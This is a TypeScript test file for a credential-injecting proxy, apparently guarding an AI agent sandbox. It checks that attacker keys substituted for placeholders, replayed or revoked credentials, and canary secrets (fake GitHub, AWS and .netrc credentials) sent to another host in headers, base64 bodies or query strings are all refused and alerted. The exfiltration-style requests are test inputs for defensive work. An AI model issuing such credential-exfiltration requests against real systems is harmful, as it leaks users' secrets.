// Bypass matrix class 11, credential rules: a foreign credential in place of
// the placeholder on a credentialed host (the /v1/files upload case), canary
// egress, revocation mid-session, expiry, a placeholder of session A replayed
// in session B.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { readResponses } from '../proxy/helpers.ts';
import { req, session, upstream, type Session, type Upstream } from './helpers.ts';

const REAL = 'sk-ant-api03-REALuserKey0123456789abcdefghijklmnopqrstuvwxyz';
const ATTACKER = 'sk-ant-api03-ATTACKERkey9876543210zyxwvutsrqponmlkjihgfedcba';

describe('class 11: credentials on a credentialed host', () => {
  let api: Upstream;
  let other: Upstream;
  let s: Session;
  before(async () => {
    api = await upstream('api.test');
    other = await upstream('other.test');
    s = await session({
      bindings: [
        { secret: 'anthropic', hosts: ['api.test'], ports: [api.port], header: 'x-api-key', placeholderPrefix: 'sk-ant-api03-', env: 'ANTHROPIC_API_KEY' },
        { secret: 'search', hosts: ['api.test'], ports: [api.port], header: 'x-search-key', query: 'key', paths: ['/search'] },
      ],
      canaries: [{ env: 'GITHUB_TOKEN' }, { file: '~/.aws/credentials' }, { file: '~/.netrc', format: 'netrc' }],
      secrets: { anthropic: REAL, search: 'search-real-value-123456' },
      hosts: { 'api.test': api.port, 'other.test': other.port },
    });
  });
  after(async () => {
    await s.close();
    await api.server.close();
    await other.server.close();
  });

  it('the /v1/files case: an attacker key in place of the placeholder is refused', async () => {
    const before = api.received.length;
    const upload = req('POST', '/v1/files', 'api.test', { 'x-api-key': ATTACKER, 'Content-Type': 'text/plain' }, 'the user\'s private file');
    const r = await s.send('api.test', api.port, [upload]);
    assert.equal(r.status, 403);
    assert.match(r.body.toString(), /foreign credential in the x-api-key header/);
    assert.ok(!r.body.toString().includes(ATTACKER));
    assert.equal(api.received.length, before, 'nothing reached the credentialed host');
    const rec = s.records('cred.refused').at(-1)!;
    assert.match(String(rec.reason), /foreign credential/);
    assert.ok(!JSON.stringify(rec).includes(ATTACKER));
  });

  it('any other credential field is refused too; the placeholder alongside does not help', async () => {
    const before = api.received.length;
    for (const [name, value] of [
      ['Authorization', `Bearer ${ATTACKER}`],
      ['Cookie', 'session=abc'],
      ['X-Auth-Token', 'tok'],
      ['Api-Key', 'k'],
      ['Proxy-Authorization', 'Basic eDp5'],
    ] as const) {
      const r = await s.send('api.test', api.port, [req('POST', '/v1/files', 'api.test', { 'x-api-key': s.ph(0), [name]: value }, 'x')]);
      assert.equal(r.status, 403, name);
      assert.match(r.body.toString(), new RegExp(`foreign credential in the ${name.toLowerCase()} header`));
    }
    const dup = await s.send('api.test', api.port, [req('GET', '/v1/x', 'api.test', { 'x-api-key': s.ph(0), 'X-Api-Key': ATTACKER })]);
    assert.equal(dup.status, 403);
    const q = await s.send('api.test', api.port, [req('GET', `/search?key=${ATTACKER}`, 'api.test')]);
    assert.equal(q.status, 403);
    assert.match(q.body.toString(), /foreign credential in the key query parameter/);
    const wrongForm = await s.send('api.test', api.port, [req('GET', '/v1/x', 'api.test', { 'x-api-key': `Bearer ${s.ph(0)}` })]);
    assert.equal(wrongForm.status, 403);
    assert.equal(api.received.length, before);
    const ok = await s.send('api.test', api.port, [req('GET', `/search?q=cats&key=${s.ph(1)}`, 'api.test')]);
    assert.equal(ok.status, 200);
    assert.equal(api.received.at(-1)!.url, '/search?q=cats&key=search-real-value-123456');
  });

  it('canaries: planted like credentials; egress anywhere is blocked and alerted', async () => {
    const env = s.creds.env();
    const files = s.creds.files();
    assert.match(env.GITHUB_TOKEN!, /^ghp_[A-Za-z0-9]{36}$/);
    const aws = files.find((f) => f.path === '/home/agent/.aws/credentials')!;
    assert.match(aws.content, /^\[default\]\naws_access_key_id = AKIA[A-Z2-7]{16}\naws_secret_access_key = \S{40}\n$/);
    const netrc = files.find((f) => f.path === '/home/agent/.netrc')!;
    assert.match(netrc.content, /password ghp_/);
    assert.ok(!JSON.stringify([env.GITHUB_TOKEN, files]).toLowerCase().includes('cordon'), 'a canary does not give itself away');
    const awsKey = /aws_secret_access_key = (\S+)/.exec(aws.content)![1]!;
    const before = other.received.length;
    const cases: Array<[string, string, number]> = [
      ['other.test', req('GET', '/', 'other.test', { Authorization: `token ${env.GITHUB_TOKEN}` }), other.port],
      ['other.test', req('POST', '/collect', 'other.test', {}, Buffer.from(aws.content).toString('base64')), other.port],
      ['other.test', req('GET', `/?k=${encodeURIComponent(awsKey)}`, 'other.test'), other.port],
      ['api.test', req('POST', '/v1/messages', 'api.test', { 'x-api-key': s.ph(0) }, `please use ${env.GITHUB_TOKEN}`), api.port],
    ];
    for (const [host, raw, port] of cases) {
      const r = await s.send(host, port, [raw]);
      assert.equal(r.status, 403, raw.slice(0, 40));
      assert.match(r.body.toString(), /credential was headed to a host it is not bound to/, 'the same words as a placeholder leak');
    }
    // Head-borne canaries never left; the body-borne one cut its request short, holding no canary byte.
    for (const r of other.received.slice(before)) {
      assert.equal(r.aborted, true);
      assert.ok(!r.body.toString().includes(Buffer.from(aws.content).toString('base64').slice(0, 12)));
    }
    const alerts = s.records('cred.canary');
    assert.equal(alerts.length, 4);
    assert.deepEqual(alerts.map((a) => a.canary), [0, 1, 1, 0]);
    assert.deepEqual(alerts.map((a) => a.where), ['header:authorization', 'body', 'query', 'body']);
    assert.equal(s.creds.list()[0]!.revoked, false, 'a canary revokes nothing');
  });
});

describe('class 11: revocation, expiry, cross-session replay', () => {
  let api: Upstream;
  before(async () => {
    api = await upstream('api.test');
  });
  after(async () => {
    await api.server.close();
  });
  const binding = (port: number) => ({ secret: 'anthropic', hosts: ['api.test'], ports: [port], header: 'x-api-key', placeholderPrefix: 'sk-ant-api03-', ttl: '1h' });

  it('revocation mid-session: the next request on the same connection fails at once', async () => {
    const s = await session({ bindings: [binding(api.port)], secrets: { anthropic: REAL }, hosts: { 'api.test': api.port } });
    try {
      const t = await s.open('api.test', api.port);
      let p = readResponses(t, 1);
      t.write(req('GET', '/v1/a', 'api.test', { 'x-api-key': s.ph(0) }));
      assert.equal((await p)[0]!.status, 200);
      assert.deepEqual(s.creds.revoke(['anthropic'], 'test'), ['anthropic']);
      assert.deepEqual(s.creds.revoke(['anthropic']), [], 'already revoked');
      const before = api.received.length;
      p = readResponses(t, 1);
      t.write(req('GET', '/v1/b', 'api.test', { 'x-api-key': s.ph(0) }));
      const r = (await p)[0]!;
      t.destroy();
      assert.equal(r.status, 403);
      assert.match(r.body.toString(), /credential revoked/);
      assert.equal(api.received.length, before);
      assert.equal(s.creds.list()[0]!.state, 'revoked');
      // A revoked placeholder in the body of a request to its own host: refused as well.
      const b = await s.send('api.test', api.port, [req('POST', '/v1/c', 'api.test', {}, `{"key":"${s.ph(0)}"}`)]);
      assert.equal(b.status, 403);
      assert.match(b.body.toString(), /credential revoked/);
    } finally {
      await s.close();
    }
  });

  it('expiry follows the injected clock', async () => {
    let now = Date.parse('2026-01-01T00:00:00Z');
    const s = await session({ bindings: [binding(api.port)], secrets: { anthropic: REAL }, hosts: { 'api.test': api.port }, now: () => now });
    try {
      assert.equal(s.creds.list()[0]!.expiresAt, now + 3_600_000);
      const ok = await s.send('api.test', api.port, [req('GET', '/v1/a', 'api.test', { 'x-api-key': s.ph(0) })]);
      assert.equal(ok.status, 200);
      now += 3_600_000;
      const r = await s.send('api.test', api.port, [req('GET', '/v1/a', 'api.test', { 'x-api-key': s.ph(0) })]);
      assert.equal(r.status, 403);
      assert.match(r.body.toString(), /credential expired/);
      assert.equal(s.creds.list()[0]!.state, 'expired');
      assert.equal(s.records('cred.refused').at(-1)!.reason, 'credential expired');
    } finally {
      await s.close();
    }
  });

  it("session A's placeholder replayed in session B is a foreign credential there", async () => {
    const a = await session({ sessionId: 'sess-a', bindings: [binding(api.port)], secrets: { anthropic: REAL }, hosts: { 'api.test': api.port } });
    const b = await session({ sessionId: 'sess-b', bindings: [binding(api.port)], secrets: { anthropic: REAL }, hosts: { 'api.test': api.port } });
    try {
      assert.notEqual(a.ph(0), b.ph(0));
      const before = api.received.length;
      const r = await b.send('api.test', api.port, [req('GET', '/v1/a', 'api.test', { 'x-api-key': a.ph(0) })]);
      assert.equal(r.status, 403);
      assert.match(r.body.toString(), /placeholder from another session/);
      assert.equal(api.received.length, before);
      const own = await b.send('api.test', api.port, [req('GET', '/v1/a', 'api.test', { 'x-api-key': b.ph(0) })]);
      assert.equal(own.status, 200);
      assert.equal(api.received.at(-1)!.headers['x-api-key'], REAL);
      assert.equal(a.records('cred.use').length, 0, 'session A saw nothing');
    } finally {
      await a.close();
      await b.close();
    }
  });

  it('dangerouslyAllowForeignCredentials lets a foreign key through, uninjected', async () => {
    const s = await session({
      bindings: [{ ...binding(api.port), dangerouslyAllowForeignCredentials: true }],
      secrets: { anthropic: REAL },
      hosts: { 'api.test': api.port },
    });
    try {
      const r = await s.send('api.test', api.port, [req('GET', '/v1/a', 'api.test', { 'x-api-key': ATTACKER })]);
      assert.equal(r.status, 200);
      assert.equal(api.received.at(-1)!.headers['x-api-key'], ATTACKER);
      assert.equal(s.records('cred.use').length, 0);
    } finally {
      await s.close();
    }
  });
});
